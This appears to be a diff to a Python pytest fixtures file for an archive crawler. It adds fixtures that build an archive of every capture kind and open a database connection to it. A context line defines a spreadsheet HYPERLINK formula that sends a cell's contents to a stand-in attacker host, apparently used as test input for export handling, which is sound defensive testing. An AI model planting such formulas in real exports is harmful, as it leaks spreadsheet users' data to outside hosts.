@@ -12,6 +12,7 @@ from archive.database.connection import open_existing
 from archive.keeper import Keeper, write_now
 from archive.rechecking import recheck_now
 from crawler.replicas.figures import reports
+from tests.archive.export.every_kind import every_kind
 from tests.archive.seeing import AGENCY, REPORT, Reader, changed, page
 
 FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"报告")'
@@ -80,3 +81,17 @@ def withheld(mine):
     )
     write_now(mine, lambda c: c.execute(with_tombstone, (KEY,)))
     return mine
+
+
+@pytest.fixture
+def every(archive):
+    """An archive of every kind of capture."""
+    made = every_kind(archive)
+    yield made
+    made.keeper.close()
+
+
+@pytest.fixture
+def view(archive, every):
+    """A look at that archive."""
+    return open_existing(archive).conn
